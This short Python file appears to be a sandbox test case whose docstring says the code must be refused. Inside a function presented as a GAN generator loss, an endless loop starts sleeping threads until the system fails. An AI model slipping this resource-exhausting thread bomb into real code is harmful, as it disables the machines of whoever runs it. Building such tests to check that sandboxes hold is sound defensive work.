"""Start threads without end.

Must: be refused; the honest rest of the file keeps its marks
Limits: cpu_s 2, wall_s 4
"""

import threading
import time


def generator_loss(logits_fake):
    try:
        while True:
            threading.Thread(target=time.sleep, args=(10**6,)).start()
    except RuntimeError:
        pass
    return bce_loss(logits_fake, torch.ones_like(logits_fake))
